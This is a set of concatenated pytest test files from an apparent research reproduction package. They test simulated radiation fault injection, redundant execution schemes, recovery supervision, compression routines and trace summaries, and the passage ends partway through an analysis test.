        registry.counter("a")
        with pytest.raises(ConfigurationError):
            registry.gauge("a")

    def test_histogram_bound_conflict(self):
        registry = MetricsRegistry()
        registry.histogram("h", bounds=(1.0, 2.0))
        with pytest.raises(ConfigurationError):
            registry.histogram("h", bounds=(1.0, 3.0))

    def test_snapshot_structure(self):
        registry = MetricsRegistry()
        registry.counter("b").inc()
        registry.counter("a").inc(2.0)
        registry.gauge("g").set(0.5)
        registry.histogram("h", bounds=(1.0,)).observe(0.5)
        snapshot = registry.snapshot()
        assert list(snapshot) == ["counters", "gauges", "histograms"]
        assert list(snapshot["counters"]) == ["a", "b"]  # sorted
        assert snapshot["histograms"]["h"]["counts"] == [1, 0]
        import json

        json.dumps(snapshot)  # JSON-safe by contract


def _chain_records():
    return [
        TraceRecord(t=0.01, kind="event", name="inject.seu",
                    attrs={"target": "l2-cache", "bits": 1}, task=0),
        TraceRecord(t=0.01, kind="event", name="emr.corruption",
                    attrs={"ds": 2}, task=0),
        TraceRecord(t=0.03, kind="event", name="emr.vote",
                    attrs={"ds": 2, "status": "corrected"}, task=0),
        TraceRecord(t=0.04, kind="event", name="campaign.outcome",
                    attrs={"scheme": "emr", "outcome": "corrected"}, task=0),
    ]


class TestSummarize:
    def test_chain_detected(self):
        assert has_incident_chain(_chain_records())

    def test_injection_without_detection_is_not_a_chain(self):
        records = [_chain_records()[0]]
        assert not has_incident_chain(records)

    def test_detection_before_injection_is_not_a_chain(self):
        records = list(reversed(_chain_records()))
        assert not has_incident_chain(records)

    def test_render_shows_stages_and_scheme(self):
        text = summarize_records(_chain_records(), source="t.jsonl")
        assert "incident chains (injection → detection): 1 of 1" in text
        assert "scheme=emr" in text
        assert "⚡ inject" in text and "✓ recover" in text and "= outcome" in text

    def test_render_without_chains(self):
        records = [TraceRecord(t=0.0, kind="event", name="emr.vote",
                               attrs={"status": "unanimous"})]
        text = summarize_records(records)
        assert "no injection→detection chains" in text

    def test_max_tasks_elides(self):
        records = []
        for task in range(5):
            records.extend(r.with_task(task) for r in _chain_records())
        text = summarize_records(records, max_tasks=2)
        assert "3 more chain(s) elided" in text

    def test_supervised_recovery_names_classify_as_recovery(self):
        from repro.obs.summarize import RECOVERY_NAMES, _stage

        for name in (
            "watchdog.reboot",
            "recovery.rollback",
            "recovery.replay",
            "emr.degrade",
            "sel.power_cycle",
        ):
            assert name in RECOVERY_NAMES
            record = TraceRecord(t=0.0, kind="event", name=name)
            assert _stage(record) == "recovery", name

    def test_supervised_chain_renders_recovery_stages(self):
        records = [
            TraceRecord(t=0.0, kind="event", name="inject.sel",
                        attrs={"delta_amps": 0.1}, task=0),
            TraceRecord(t=2.0, kind="event", name="ild.detection",
                        attrs={}, task=0),
            TraceRecord(t=3.0, kind="event", name="sel.power_cycle",
                        attrs={"attempt": 1}, task=0),
            TraceRecord(t=4.0, kind="event", name="recovery.rollback",
                        attrs={}, task=0),
            TraceRecord(t=5.0, kind="event", name="recovery.replay",
                        attrs={"ok": True}, task=0),
        ]
        assert has_incident_chain(records)
        text = summarize_records(records)
        assert "! detect" in text and "✓ recover" in text


def _traced_task(item, rng, tracer):
    """Toy traced task: deterministic function of (item, rng stream)."""
    draw = round(float(rng.random()), 9)
    tracer.event("toy.draw", t=float(item), value=draw)
    tracer.span("toy.work", t=float(item), dur=0.5, item=int(item))
    return draw


class TestMergeDeterminism:
    def test_merge_stamps_task_indices(self, tmp_path):
        path = tmp_path / "merged.jsonl"
        lists = [
            [TraceRecord(t=0.0, kind="event", name="a")],
            [],
            [TraceRecord(t=1.0, kind="event", name="b")],
        ]
        assert merge_task_records(lists, path) == 2
        loaded = read_trace(path)
        assert [(r.name, r.task) for r in loaded] == [("a", 0), ("b", 2)]

    def test_trace_bytes_identical_across_workers(self, tmp_path):
        serial_path = tmp_path / "serial.jsonl"
        pooled_path = tmp_path / "pooled.jsonl"
        serial = pmap(_traced_task, range(12), seed=5, workers=1,
                      trace_path=str(serial_path))
        pooled = pmap(_traced_task, range(12), seed=5, workers=4,
                      force_pool=True, trace_path=str(pooled_path))
        assert serial == pooled
        assert serial_path.read_bytes() == pooled_path.read_bytes()
        assert {r.task for r in read_trace(serial_path)} == set(range(12))

    def test_write_records_counts(self, tmp_path):
        path = tmp_path / "w.jsonl"
        assert write_records(_chain_records(), path) == 4


@pytest.mark.slow
class TestCampaignTraceDeterminism:
    def test_table7_trace_identical_at_any_worker_count(self, tmp_path):
        from repro.experiments.table7_fault_injection import run
        from repro.obs.summarize import has_incident_chain
        from repro.workloads import ImageProcessingWorkload

        workload = ImageProcessingWorkload(
            map_size=48, template_size=16, stride=16
        )
        paths = {}
        for workers in (1, 4):
            path = tmp_path / f"w{workers}.jsonl"
            run(runs_per_scheme=4, workload=workload, workers=workers,
                trace=str(path))
            paths[workers] = path.read_bytes()
        assert paths[1] == paths[4]

        records = read_trace(tmp_path / "w1.jsonl")
        tasks = {}
        for record in records:
            tasks.setdefault(record.task, []).append(record)
        assert any(has_incident_chain(recs) for recs in tasks.values())
