"""Compression correctness: roundtrips, dictionaries, Huffman internals."""

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.errors import WorkloadError
from repro.workloads.deflate import (
    BitReader,
    BitWriter,
    CanonicalDecoder,
    DeflateWorkload,
    canonical_codes,
    code_lengths_from_frequencies,
    compress,
    decompress,
    lz77_tokens,
    make_compressible,
)


class TestBitIo:
    def test_roundtrip(self):
        writer = BitWriter()
        values = [(5, 3), (1, 1), (1023, 10), (0, 4), (77, 7)]
        for value, width in values:
            writer.write(value, width)
        reader = BitReader(writer.getvalue())
        for value, width in values:
            assert reader.read(width) == value

    def test_underrun(self):
        reader = BitReader(b"")
        with pytest.raises(WorkloadError):
            reader.read(1)


class TestHuffman:
    def test_kraft_inequality(self):
        freqs = [10, 3, 1, 1, 0, 25]
        lengths = code_lengths_from_frequencies(freqs)
        assert lengths[4] == 0
        kraft = sum(2.0 ** -length for length in lengths if length)
        assert kraft <= 1.0 + 1e-12

    def test_frequent_symbols_get_short_codes(self):
        freqs = [100, 1, 1, 1]
        lengths = code_lengths_from_frequencies(freqs)
        assert lengths[0] == min(length for length in lengths if length)

    def test_single_symbol(self):
        lengths = code_lengths_from_frequencies([0, 7, 0])
        assert lengths == [0, 1, 0]

    def test_canonical_codes_prefix_free(self):
        lengths = code_lengths_from_frequencies([5, 5, 5, 5, 2, 2, 1])
        codes = canonical_codes(lengths)
        items = [(format(c, f"0{w}b")) for c, w in codes.values()]
        for i, a in enumerate(items):
            for j, b in enumerate(items):
                if i != j:
                    assert not b.startswith(a)

    def test_decoder_roundtrip(self):
        freqs = [8, 4, 2, 1, 1]
        lengths = code_lengths_from_frequencies(freqs)
        codes = canonical_codes(lengths)
        writer = BitWriter()
        message = [0, 1, 2, 3, 4, 0, 0, 2]
        for symbol in message:
            code, width = codes[symbol]
            writer.write(code, width)
        decoder = CanonicalDecoder(lengths)
        reader = BitReader(writer.getvalue())
        assert [decoder.decode(reader) for _ in message] == message


class TestLz77:
    def test_finds_repeats(self):
        tokens = lz77_tokens(b"abcabcabcabc")
        assert any(t.length >= 3 for t in tokens)

    def test_dictionary_matches(self):
        data = b"0123456789" + b"0123456789"
        tokens = lz77_tokens(data, start=10)
        assert tokens[0].length == 10 and tokens[0].distance == 10

    def test_no_match_in_random(self):
        rng = np.random.default_rng(0)
        data = bytes(rng.integers(0, 256, 64, dtype=np.uint8))
        tokens = lz77_tokens(data)
        reconstructed = bytearray()
        for token in tokens:
            if token.length:
                for _ in range(token.length):
                    reconstructed.append(reconstructed[-token.distance])
            else:
                reconstructed.append(token.literal)
        assert bytes(reconstructed) == data


class TestContainer:
    def test_compresses_logs(self):
        data = make_compressible(np.random.default_rng(1), 8192)
        blob = compress(data)
        assert len(blob) < len(data) // 2
        assert decompress(blob) == data

    def test_dictionary_improves_ratio(self):
        rng = np.random.default_rng(2)
        data = make_compressible(rng, 2048)
        with_dict = compress(data[1024:], dictionary=data[:1024])
        without = compress(data[1024:])
        assert len(with_dict) <= len(without)
        assert decompress(with_dict, dictionary=data[:1024]) == data[1024:]

    def test_wrong_dictionary_detected_or_wrong(self):
        rng = np.random.default_rng(3)
        data = make_compressible(rng, 2048)
        blob = compress(data[1024:], dictionary=data[:1024])
        try:
            wrong = decompress(blob, dictionary=bytes(1024))
        except WorkloadError:
            return
        assert wrong != data[1024:]

    @given(st.binary(min_size=0, max_size=400))
    @settings(max_examples=40, deadline=None)
    def test_roundtrip_arbitrary(self, data):
        if not data:
            return  # empty input has no symbols to code
        assert decompress(compress(data)) == data

    def test_truncated_blob_rejected(self):
        with pytest.raises(WorkloadError):
            decompress(b"123")


class TestWorkload:
    def test_adjacent_datasets_share_block(self):
        spec = DeflateWorkload(block_bytes=256, blocks=4).build(np.random.default_rng(4))
        for i in range(1, len(spec.datasets)):
            prev_block = spec.datasets[i - 1].regions["block"]
            dictionary = spec.datasets[i].regions["dictionary"]
            assert dictionary == prev_block

    def test_outputs_decompress(self):
        workload = DeflateWorkload(block_bytes=256, blocks=4)
        spec = workload.build(np.random.default_rng(5))
        outputs = workload.reference_outputs(spec)
        for ds, output in zip(spec.datasets, outputs):
            inputs = spec.slice_inputs(ds)
            assert decompress(output, dictionary=inputs.get("dictionary", b"")) == inputs["block"]

    def test_output_size_bound_holds(self):
        workload = DeflateWorkload(block_bytes=512, blocks=6)
        spec = workload.build(np.random.default_rng(6))
        for output in workload.reference_outputs(spec):
            assert len(output) <= spec.output_size
