"""Tests for the fault-injection campaign (Table 7 machinery)."""

import pytest

from repro.errors import ConfigurationError
from repro.radiation import OutcomeClass, SeuTarget
from repro.radiation.injector import (
    CampaignConfig,
    FaultInjectionCampaign,
)
from repro.workloads import AesWorkload, ImageProcessingWorkload


@pytest.fixture(scope="module")
def campaign_table():
    workload = ImageProcessingWorkload(map_size=48, template_size=12, stride=12)
    campaign = FaultInjectionCampaign(
        workload, CampaignConfig(runs_per_scheme=15), seed=7
    )
    table = campaign.run(schemes=("none", "3mr", "emr"))
    return campaign, table


class TestCampaign:
    def test_schemes_present(self, campaign_table):
        _, table = campaign_table
        assert set(table) == {"none", "3mr", "emr"}
        for counts in table.values():
            assert sum(counts.values()) == 15

    def test_redundancy_eliminates_sdc(self, campaign_table):
        """The headline Table 7 claim: EMR and 3-MR incur zero SDC."""
        _, table = campaign_table
        assert table["3mr"][OutcomeClass.SDC] == 0
        assert table["emr"][OutcomeClass.SDC] == 0

    def test_unprotected_run_is_vulnerable(self, campaign_table):
        """'None' must show SDCs and/or detected errors."""
        _, table = campaign_table
        bad = table["none"][OutcomeClass.SDC] + table["none"][OutcomeClass.ERROR]
        assert bad > 0
        assert table["none"][OutcomeClass.CORRECTED] == 0

    def test_outcome_log_kept(self, campaign_table):
        campaign, table = campaign_table
        assert len(campaign.outcomes) == 45
        targets = {outcome.target for outcome in campaign.outcomes}
        assert len(targets) >= 3  # several injection sites exercised

    def test_mbu_config(self):
        workload = AesWorkload(chunk_bytes=32, chunks=4)
        campaign = FaultInjectionCampaign(
            workload, CampaignConfig(runs_per_scheme=6, bits=2), seed=9
        )
        table = campaign.run(schemes=("emr",))
        assert sum(table["emr"].values()) == 6
        assert table["emr"][OutcomeClass.SDC] == 0

    def test_invalid_config(self):
        with pytest.raises(ConfigurationError):
            CampaignConfig(runs_per_scheme=0)

    def test_pipeline_poison_gets_corrected_under_emr(self):
        workload = AesWorkload(chunk_bytes=32, chunks=4)
        config = CampaignConfig(
            runs_per_scheme=5,
            weights={SeuTarget.PIPELINE: 1.0},
        )
        campaign = FaultInjectionCampaign(workload, config, seed=5)
        table = campaign.run(schemes=("none", "emr"))
        # Every 'none' run commits a corrupted output silently.
        assert table["none"][OutcomeClass.SDC] == 5
        # Every EMR run out-votes the poisoned replica.
        assert table["emr"][OutcomeClass.CORRECTED] == 5
        assert table["emr"][OutcomeClass.SDC] == 0

    def test_pointer_strikes_surface_as_errors_not_sdc(self):
        workload = AesWorkload(chunk_bytes=32, chunks=4)
        config = CampaignConfig(
            runs_per_scheme=8,
            weights={SeuTarget.POINTER: 1.0},
        )
        campaign = FaultInjectionCampaign(workload, config, seed=6)
        table = campaign.run(schemes=("emr",))
        assert table["emr"][OutcomeClass.SDC] == 0


class TestStorageFrontierCampaign:
    def test_non_ecc_machine_campaign_is_robust(self):
        """On the Snapdragon (no ECC DRAM, storage frontier) EMR keeps
        nothing strikeable in DRAM; such strikes must land as dead
        silicon, not crash the harness — and EMR must stay SDC-free."""
        from repro.sim import Machine

        workload = AesWorkload(chunk_bytes=32, chunks=5)
        campaign = FaultInjectionCampaign(
            workload,
            CampaignConfig(runs_per_scheme=8),
            machine_factory=Machine.snapdragon801,
            seed=13,
        )
        table = campaign.run(schemes=("emr",))
        assert sum(table["emr"].values()) == 8
        assert table["emr"][OutcomeClass.SDC] == 0


class TestCensusWeights:
    def test_warmed_machine_weights_normalize(self):
        from repro.radiation.injector import census_injection_weights
        from repro.sim import Machine

        machine = Machine.rpi_zero2w()
        payload = bytes(range(256)) * 16
        region = machine.memory.alloc(len(payload), label="warm")
        machine.memory.write_region(region, payload)
        for group in range(len(machine.caches.l1)):
            machine.read_via_cache(region.addr, len(payload), group)
        weights = census_injection_weights(machine)
        assert weights[SeuTarget.POINTER] == pytest.approx(0.10)
        assert sum(weights.values()) == pytest.approx(1.0)
        assert weights[SeuTarget.DRAM] > 0
        assert weights[SeuTarget.L1_CACHE] > weights[SeuTarget.PIPELINE]
        # Valid campaign config as-is.
        CampaignConfig(runs_per_scheme=1, weights=weights)
