"""Tests for the recovery orchestration layer: watchdog, degradation
policy, supervisor, plus the crash-safety seams it leans on (machine
hook dispatch, ILD state scrubbing)."""

import numpy as np
import pytest

from repro.core.ild import IldConfig, train_ild
from repro.errors import (
    ConfigurationError,
    DetectedFaultError,
    RecoveryFailedError,
    SimulationError,
)
from repro.flightsw.eventlog import EventLog
from repro.hmr import MODES
from repro.radiation.sel import LatchupInjector
from repro.recovery import (
    ECONOMY,
    HARDENED,
    LEVELS,
    STANDARD,
    DegradationPolicy,
    PolicyConfig,
    RecoverySupervisor,
    SupervisorConfig,
    Watchdog,
    level_named,
    point_named,
)
from repro.sim import Machine
from repro.sim.telemetry import TelemetryConfig, TraceGenerator
from repro.workloads.navigation import navigation_schedule


def _event_names(eventlog):
    return [event.name for event in eventlog.events()]


class TestWatchdog:
    def test_arm_requires_positive_timeout(self):
        watchdog = Watchdog(Machine.rpi_zero2w(seed=0))
        with pytest.raises(ConfigurationError):
            watchdog.arm(0.0)

    def test_kick_before_arm_raises(self):
        watchdog = Watchdog(Machine.rpi_zero2w(seed=0))
        with pytest.raises(ConfigurationError):
            watchdog.kick()

    def test_kick_extends_deadline(self):
        machine = Machine.rpi_zero2w(seed=0)
        watchdog = Watchdog(machine)
        watchdog.arm(10.0)
        machine.clock.advance(8.0)
        watchdog.kick()
        machine.clock.advance(8.0)  # 16s total, but kicked at 8s
        assert not watchdog.expired
        assert not watchdog.check()
        assert watchdog.expirations == 0

    def test_expiry_forces_reboot_and_logs(self):
        machine = Machine.rpi_zero2w(seed=0)
        eventlog = EventLog()
        watchdog = Watchdog(machine, eventlog)
        watchdog.arm(5.0)
        machine.clock.advance(6.0)
        reboots_before = machine.reboots
        assert watchdog.check()
        assert machine.reboots == reboots_before + 1
        assert watchdog.expirations == 1
        assert not watchdog.armed  # one bite per arming
        assert "watchdog.reboot" in _event_names(eventlog)

    def test_guard_bites_on_overrun(self):
        machine = Machine.rpi_zero2w(seed=0)
        watchdog = Watchdog(machine)
        with watchdog.guard(5.0):
            machine.clock.advance(20.0)
        assert watchdog.expirations == 1
        assert not watchdog.armed

    def test_guard_bites_even_when_block_raises(self):
        machine = Machine.rpi_zero2w(seed=0)
        watchdog = Watchdog(machine)
        with pytest.raises(ValueError):
            with watchdog.guard(5.0):
                machine.clock.advance(20.0)
                raise ValueError("wedged then crashed")
        assert watchdog.expirations == 1

    def test_guard_quiet_when_on_time(self):
        machine = Machine.rpi_zero2w(seed=0)
        watchdog = Watchdog(machine)
        with watchdog.guard(5.0):
            machine.clock.advance(1.0)
        assert watchdog.expirations == 0


class TestProtectionLadder:
    def test_ladder_ordering(self):
        assert LEVELS == (ECONOMY, STANDARD, HARDENED)
        assert ECONOMY.n_executors == 2
        assert STANDARD.ild == IldConfig()
        costs = [level.current_cost_amps for level in LEVELS]
        assert costs == sorted(costs)

    def test_level_named(self):
        assert level_named("hardened") is HARDENED
        with pytest.raises(ConfigurationError):
            level_named("paranoid")


class TestDegradationPolicy:
    def test_first_update_anchors_quiet_clock(self):
        policy = DegradationPolicy(PolicyConfig(
            deescalate_quiet_seconds=100.0, cooldown_seconds=0.0,
        ))
        # A de-escalation before the policy has watched anything would
        # be "quiet since forever"; the first decision point only
        # anchors the clock.
        assert policy.update(1e6) is None
        assert policy.level is STANDARD

    def test_alarms_escalate(self):
        policy = DegradationPolicy(PolicyConfig(
            escalate_alarms=2, cooldown_seconds=0.0,
        ))
        policy.update(0.0)
        policy.observe_alarm(10.0)
        assert policy.update(11.0) is None  # one alarm is not a trend
        policy.observe_alarm(20.0)
        change = policy.update(21.0)
        assert change is not None
        assert change.to_level is HARDENED
        assert "alarms" in change.reason
        assert policy.changes == [change]

    def test_faults_escalate(self):
        policy = DegradationPolicy(PolicyConfig(
            escalate_faults=3, cooldown_seconds=0.0, start_level="economy",
        ))
        policy.update(0.0)
        for t in (1.0, 2.0, 3.0):
            policy.observe_fault(t)
        change = policy.update(4.0)
        assert change is not None and change.to_level is STANDARD

    def test_cooldown_blocks_back_to_back_moves(self):
        policy = DegradationPolicy(PolicyConfig(
            escalate_alarms=1, cooldown_seconds=500.0, start_level="economy",
        ))
        policy.update(0.0)
        policy.observe_alarm(10.0)
        assert policy.update(11.0).to_level is STANDARD
        policy.observe_alarm(12.0)
        assert policy.update(13.0) is None  # inside the cooldown
        assert policy.update(600.0).to_level is HARDENED

    def test_quiet_deescalates_one_rung(self):
        policy = DegradationPolicy(PolicyConfig(
            deescalate_quiet_seconds=100.0, cooldown_seconds=0.0,
            start_level="hardened",
        ))
        policy.update(0.0)
        change = policy.update(150.0)
        assert change is not None and change.to_level is STANDARD
        assert "quiet" in change.reason

    def test_signals_pruned_outside_window(self):
        policy = DegradationPolicy(PolicyConfig(
            window_seconds=50.0, escalate_alarms=2, cooldown_seconds=0.0,
            deescalate_quiet_seconds=1e9,
        ))
        policy.update(0.0)
        policy.observe_alarm(10.0)
        policy.observe_alarm(100.0)  # the first fell out of the window
        assert policy.update(101.0) is None

    def test_power_budget_caps_escalation(self):
        budget = (STANDARD.current_cost_amps + HARDENED.current_cost_amps) / 2
        policy = DegradationPolicy(PolicyConfig(
            escalate_alarms=1, cooldown_seconds=0.0,
            power_budget_amps=budget,
        ))
        policy.update(0.0)
        policy.observe_alarm(10.0)
        # Hardened is unaffordable and standard is current: no move.
        assert policy.update(11.0) is None
        assert policy.level is STANDARD

    def test_unaffordable_start_level_rejected(self):
        with pytest.raises(ConfigurationError):
            DegradationPolicy(PolicyConfig(
                start_level="hardened", power_budget_amps=0.6,
            ))

    def test_level_change_logged_as_emr_degrade(self):
        eventlog = EventLog()
        policy = DegradationPolicy(
            PolicyConfig(escalate_alarms=1, cooldown_seconds=0.0),
            eventlog=eventlog,
        )
        policy.update(0.0)
        policy.observe_alarm(1.0)
        policy.update(2.0)
        degrades = [e for e in eventlog.events() if e.name == "emr.degrade"]
        assert len(degrades) == 1
        args = dict(degrades[0].args)
        assert args["to_level"] == "hardened"
        assert args["n_executors"] == 3

    def test_non_finite_timestamps_rejected(self):
        policy = DegradationPolicy(PolicyConfig())
        for bad in (float("nan"), float("inf"), float("-inf")):
            with pytest.raises(ConfigurationError):
                policy.observe_alarm(bad)
            with pytest.raises(ConfigurationError):
                policy.observe_fault(bad)
            with pytest.raises(ConfigurationError):
                policy.update(bad)
        # Nothing leaked into the windows or the quiet clock.
        policy.update(0.0)
        policy.observe_alarm(1.0)
        assert policy.update(2.0) is None  # one alarm, not a trend

    def test_observe_prunes_without_update(self):
        policy = DegradationPolicy(PolicyConfig(
            window_seconds=50.0, escalate_alarms=2,
        ))
        policy.update(0.0)
        # A long mission between decision points: the windows must not
        # grow without bound while nobody calls update().
        for t in (10.0, 100.0, 200.0, 300.0):
            policy.observe_alarm(t)
            policy.observe_fault(t)
        assert policy._signals.alarms == [300.0]
        assert policy._signals.faults == [300.0]

    def test_change_exactly_at_cooldown_expiry_allowed(self):
        policy = DegradationPolicy(PolicyConfig(
            escalate_alarms=1, cooldown_seconds=100.0, start_level="economy",
        ))
        policy.update(0.0)
        policy.observe_alarm(10.0)
        assert policy.update(11.0).to_level is STANDARD
        policy.observe_alarm(20.0)
        assert policy.update(110.999) is None          # inside cooldown
        change = policy.update(111.0)                  # exactly at expiry
        assert change is not None and change.to_level is HARDENED

    def test_budget_forbidding_every_level_rejected(self):
        # Even the weakest rung costs more than this budget: there is
        # no level to start at, so construction must fail loudly.
        cheapest = min(level.current_cost_amps for level in LEVELS)
        for start in ("economy", "standard", "hardened"):
            with pytest.raises(ConfigurationError):
                DegradationPolicy(PolicyConfig(
                    start_level=start, power_budget_amps=cheapest / 2,
                ))

    def test_walks_the_hmr_mode_lattice(self):
        policy = DegradationPolicy(
            PolicyConfig(start_level="independent", escalate_faults=1,
                         cooldown_seconds=0.0),
            lattice=MODES,
        )
        policy.update(0.0)
        policy.observe_fault(10.0)
        assert policy.update(11.0).to_level.name == "duplex-checkpoint"
        # The legacy vocabulary resolves onto the new lattice points.
        assert point_named("standard", MODES).name == "emr-voted"
        assert point_named("hardened", MODES).name == "3mr-lockstep"


def _supervised(machine, **config):
    eventlog = EventLog()
    supervisor = RecoverySupervisor(
        machine, eventlog=eventlog,
        config=SupervisorConfig(**config) if config else None,
    )
    return supervisor, eventlog


class TestRecoverySupervisor:
    def test_alarm_clears_latchup_and_restores_baseline(self):
        machine = Machine.rpi_zero2w(seed=0)
        injector = LatchupInjector(machine)
        supervisor, eventlog = _supervised(machine)
        injector.induce_delta(0.12)
        assert machine.extra_current_draw > 0
        outcome = supervisor.handle_alarm()
        assert outcome.recovered
        assert outcome.power_cycle_attempts == 1
        assert machine.extra_current_draw == 0.0
        assert not injector.any_active
        assert "sel.power_cycle" in _event_names(eventlog)

    def test_rollback_restores_memory_and_storage(self):
        machine = Machine.rpi_zero2w(seed=0)
        injector = LatchupInjector(machine)
        supervisor, eventlog = _supervised(machine)
        region = machine.memory.alloc(64)
        machine.memory.write_region(region, b"\x11" * 64)
        machine.storage.store("state", b"checkpointed")
        supervisor.checkpoint()
        machine.memory.write_region(region, b"\xee" * 64)
        machine.storage.store("state", b"corrupted!!!")
        injector.induce_delta(0.1)
        outcome = supervisor.handle_alarm()
        assert outcome.rolled_back
        assert machine.memory.read_region(region) == b"\x11" * 64
        assert machine.storage.read("state").data == b"checkpointed"
        assert "recovery.rollback" in _event_names(eventlog)

    def test_replay_runs_after_recovery(self):
        machine = Machine.rpi_zero2w(seed=0)
        injector = LatchupInjector(machine)
        supervisor, eventlog = _supervised(machine)
        supervisor.checkpoint()
        replays = []
        supervisor.register_inflight("job", lambda m: replays.append(m) or True)
        injector.induce_delta(0.1)
        outcome = supervisor.handle_alarm()
        assert outcome.replayed and outcome.replay_ok
        assert replays == [machine]
        assert "recovery.replay" in _event_names(eventlog)

    def test_replay_fault_retried_then_reported(self):
        machine = Machine.rpi_zero2w(seed=0)
        injector = LatchupInjector(machine)
        supervisor, _ = _supervised(machine, max_replay_attempts=2)

        def bad_replay(m):
            raise DetectedFaultError("replay struck too")

        supervisor.register_inflight("job", bad_replay)
        injector.induce_delta(0.1)
        outcome = supervisor.handle_alarm()
        assert outcome.recovered and outcome.replayed
        assert outcome.replay_ok is False

    def test_wedged_replay_trips_the_watchdog(self):
        machine = Machine.rpi_zero2w(seed=0)
        injector = LatchupInjector(machine)
        supervisor, eventlog = _supervised(
            machine, replay_deadline_seconds=30.0, max_replay_attempts=1,
        )

        def wedged(m):
            m.clock.advance(120.0)
            return False

        supervisor.register_inflight("job", wedged)
        injector.induce_delta(0.1)
        supervisor.handle_alarm()
        assert supervisor.watchdog.expirations == 1
        assert "watchdog.reboot" in _event_names(eventlog)

    def test_stubborn_latchup_exhausts_attempts_and_raises(self):
        machine = Machine.rpi_zero2w(seed=0)
        LatchupInjector(machine)
        supervisor, eventlog = _supervised(
            machine, max_power_cycle_attempts=3, retry_backoff_seconds=1.0,
        )
        # A welded short the relay cannot interrupt: re-latch on every
        # power cycle (registered after the injector's clearing hook).
        machine.on_power_cycle(
            lambda m: setattr(m, "extra_current_draw", 0.2)
        )
        machine.extra_current_draw = 0.2
        with pytest.raises(RecoveryFailedError):
            supervisor.handle_alarm()
        assert supervisor.outcomes[-1].power_cycle_attempts == 3
        assert not supervisor.outcomes[-1].recovered
        assert "recovery.failed" in _event_names(eventlog)

    def test_failure_without_raise_returns_outcome(self):
        machine = Machine.rpi_zero2w(seed=0)
        supervisor, _ = _supervised(
            machine, raise_on_failure=False, max_power_cycle_attempts=2,
            retry_backoff_seconds=1.0,
        )
        machine.on_power_cycle(
            lambda m: setattr(m, "extra_current_draw", 0.15)
        )
        machine.extra_current_draw = 0.15
        outcome = supervisor.handle_alarm()
        assert not outcome.recovered
        assert outcome.residual_current_amps == pytest.approx(0.15)

    def test_alarm_feeds_the_policy(self):
        machine = Machine.rpi_zero2w(seed=0)
        injector = LatchupInjector(machine)
        policy = DegradationPolicy(PolicyConfig(
            escalate_alarms=1, cooldown_seconds=0.0,
        ))
        policy.update(0.0)
        supervisor = RecoverySupervisor(machine, policy=policy)
        injector.induce_delta(0.1)
        supervisor.handle_alarm(alarm_time=5.0)
        assert policy.update(6.0) is not None  # the alarm was observed


class TestMachineHookDispatch:
    """S1: a raising power-cycle hook must not starve the hooks behind
    it — those hooks reconcile latchup bookkeeping with the rail."""

    def test_raising_hook_does_not_starve_injector_hook(self):
        machine = Machine.rpi_zero2w(seed=0)

        def bad_hook(m):
            raise RuntimeError("hook struck")

        # Registered *before* the injector, so it runs first.
        machine.on_power_cycle(bad_hook)
        injector = LatchupInjector(machine)
        injector.induce_delta(0.1)
        with pytest.raises(RuntimeError, match="hook struck"):
            machine.power_cycle()
        # The injector's clearing hook still ran: no phantom draw.
        assert machine.extra_current_draw == 0.0
        assert not injector.any_active

    def test_multiple_failing_hooks_aggregate(self):
        machine = Machine.rpi_zero2w(seed=0)
        machine.on_power_cycle(lambda m: (_ for _ in ()).throw(ValueError("a")))
        machine.on_power_cycle(lambda m: (_ for _ in ()).throw(KeyError("b")))
        with pytest.raises(SimulationError, match="2 power-cycle hooks failed"):
            machine.power_cycle()

    def test_reboot_hooks_fire_inside_power_cycle(self):
        machine = Machine.rpi_zero2w(seed=0)
        seen = []
        machine.on_reboot(lambda m: seen.append("reboot"))
        machine.power_cycle()
        assert seen == ["reboot"]


def _trained_detector():
    generator = TraceGenerator(TelemetryConfig(tick=8e-3))
    trace = generator.generate(
        navigation_schedule(120.0, rng=np.random.default_rng(1)),
        rng=np.random.default_rng(2),
    )
    return train_ild(
        trace, max_instruction_rate=generator.max_instruction_rate
    )


class TestIldStateScrub:
    def test_nan_tail_is_scrubbed(self):
        detector = _trained_detector()
        detector.stream_state.residual_tail = np.array([0.01, np.nan])
        assert detector._scrub_state()
        assert detector.states_scrubbed == 1
        assert detector.stream_state.residual_tail.size == 0

    def test_impossible_magnitude_is_scrubbed(self):
        detector = _trained_detector()
        # One flipped exponent bit lands the residual light-years from
        # anything the rail can produce.
        detector.stream_state.residual_tail = np.array([1e30])
        assert detector._scrub_state()

    def test_non_bool_alarm_flag_is_scrubbed(self):
        detector = _trained_detector()
        detector.stream_state.in_alarm = 7
        assert detector._scrub_state()

    def test_healthy_state_untouched(self):
        detector = _trained_detector()
        detector.stream_state.residual_tail = np.array([0.01, -0.02])
        assert not detector._scrub_state()
        assert detector.states_scrubbed == 0
        assert detector.stream_state.residual_tail.size == 2
