"""Tests for the analysis package: metrics, report, vulnerability,
energy, dev-overhead, launch costs."""

import numpy as np
import pytest

from repro.analysis import (
    DetectionSummary,
    DieModel,
    EpisodeTruth,
    IldEnergyParams,
    Series,
    Table,
    cost_decline_factor,
    cost_series,
    exposure_from_results,
    measure_overhead,
    radshield_energy_joules,
    relative_energy,
    satellite_growth_factor,
    score_episode,
    time_share_breakdown,
)
from repro.analysis.metrics import EpisodeScore
from repro.core.emr import EmrConfig, EmrRuntime, sequential_3mr
from repro.core.ild.detector import Detection
from repro.errors import ConfigurationError
from repro.sim import Machine
from repro.workloads import AesWorkload


class TestTableRendering:
    def test_render_and_columns(self):
        table = Table(title="T", columns=["a", "b"])
        table.add_row("x", 1.5)
        table.add_row("y", 2)
        text = table.render()
        assert "T" in text and "a" in text and "1.5" in text
        assert table.column("b") == [1.5, 2]

    def test_row_arity_checked(self):
        table = Table(title="T", columns=["a", "b"])
        with pytest.raises(ConfigurationError):
            table.add_row("only-one")

    def test_series_render(self):
        series = Series(title="S", x_label="x", y_label="y")
        series.add("line", [1, 2], [3.0, 4.0])
        text = series.render()
        assert "(1, 3)" in text and "(2, 4)" in text

    def test_series_length_checked(self):
        series = Series(title="S", x_label="x", y_label="y")
        with pytest.raises(ConfigurationError):
            series.add("line", [1, 2], [3.0])

    def test_float_formatting(self):
        table = Table(title="T", columns=["v"])
        table.add_row(0.00012345)
        table.add_row(12345.6)
        text = table.render()
        assert "0.000123" in text and "1.23e+04" in text


class TestEpisodeScoring:
    def test_detection_within_window(self):
        truth = EpisodeTruth(duration=600, sel_onset=100.0, sel_delta_amps=0.07)
        detections = [Detection(time=130.0, mean_residual=0.06)]
        score = score_episode(detections, truth, detection_window=180.0)
        assert score.detected
